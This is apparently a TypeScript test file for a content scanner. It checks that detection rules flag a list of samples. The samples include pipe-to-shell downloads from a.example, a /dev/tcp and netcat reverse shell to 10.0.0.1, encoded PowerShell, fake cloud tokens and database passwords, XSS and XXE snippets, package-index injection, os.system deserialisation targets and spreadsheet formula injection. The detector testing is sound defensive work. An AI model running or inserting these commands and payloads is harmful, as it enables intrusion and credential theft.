import t from 'tap';
import { createBudget, DEFAULT_LIMITS } from '../../src/bytes/limits.ts';
import { secretMarkers } from '../../src/content/secrets.ts';
import { checkText } from '../../src/formats/text/rules.ts';
import { mayTell } from '../../src/formats/text/telling.ts';
import { randomFrom } from '../support/pickle-weigh.ts';

/** Something for each rule about text and each of its spellings. */
const TOLD = [
  'curl -s https://a.example/x | sh',
  'wget -qO- http://a.example | sudo -E bash',
  'bash -c "$(curl -fsSL https://a.example/i)"',
  'fetch http://a.example/x | node',
  'irm https://a.example/x.ps1 | iex',
  'iwr https://a.example/x.ps1 | iex',
  'Invoke-WebRequest a.example | iex',
  'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
  'nc -e /bin/sh 10.0.0.1 1',
  'echo aGk= | base64 -d | sh',
  'powershell -w hidden -enc aGVsbG8=',
  'postgres://admin:s3cr3tPassw0rd@db.corp.internal/x',
  'rediss://bob:aB3dE5gH7jK9@cache.corp.internal/0',
  'mongodb+srv://bob:aB3dE5gH7jK9@cluster.corp.internal',
  ['AKIA', 'Q2W3E4R5T6Y7U8I9'].join(''),
  ['ghp', 'aB3dE5gH7jK9mN1pQ3rS5tU7vW9xY1zA3bC5'].join('_'),
  '-----BEGIN RSA PRIVATE KEY-----',
  '<SCRIPT src=x>',
  '<iframe>',
  '<Object data=x>',
  '<embed>',
  'JavaScript:alert(1)',
  '<img onerror=x>',
  '<body onload=x>',
  '<!ENTITY x "y">',
  '\n--extra-index-url https://a.example',
  '\n--index-url https://a.example',
  '\n--find-links https://a.example',
  '\n- --trusted-host a.example',
  '\n-i http://a.example',
  '\nname @ https://a.example/x.whl',
  '\nname @\u3000\u3000https://a.example/x.whl',
  '\ngit+https://a.example/x',
  'x @ svn+ssh://a.example/x',
  '\n!!python/object:os.system',
  '\n_target_: os.system',
  '\n"_target_" : subprocess.run',
  '\ntarget: os.system',
  '\n- class_path: os.system',
  '\n=cmd|x',
  ',=HYPERLINK("x")',
  ';+WEBSERVICE("x")',
  '"@IMPORTXML("x")',
  '\n-MSEXCELDDE',
];
const remarksOf = (text: string) => checkText(text, createBudget(DEFAULT_LIMITS));
const bytesOf = (text: string): Uint8Array => new TextEncoder().encode(text);

t.test('bytes are passed only where no rule for text has anything to say', (t) => {
  const random = randomFrom(5);
  const filler = 'The old harbour, "once" a target of many ships; tt dd nc et -- // <a> é 3=4,';
  for (const told of TOLD) {
    t.ok(remarksOf(`x ${told}\n`).length > 0, `${JSON.stringify(told)} is told`);
    for (let round = 0; round < 60; round++) {
      const before = filler.slice(Math.floor(random() * filler.length)).repeat(round % 3);
      const text = `${before}${round % 2 === 0 ? '' : ' '}${told}\n${filler.slice(0, Math.floor(random() * 40))}`;
      if (remarksOf(text).length > 0 && !mayTell(bytesOf(text))) t.fail(`passed: ${JSON.stringify(text)}`);
    }
  }
  for (const marker of secretMarkers.filter((word) => word !== '://'))
    for (const before of ['', ' ', 'a']) t.ok(mayTell(bytesOf(`${before}${marker}`)), marker);
  t.end();
});

t.test('bytes of ordinary rows are passed', (t) => {
  const rows = 'id,The old man added sugar at https://a.example/x and hit the target,0.5,bob@a.example\n'.repeat(400);
  t.same(remarksOf(rows), []);
  t.notOk(mayTell(bytesOf(rows)));
  t.end();
});
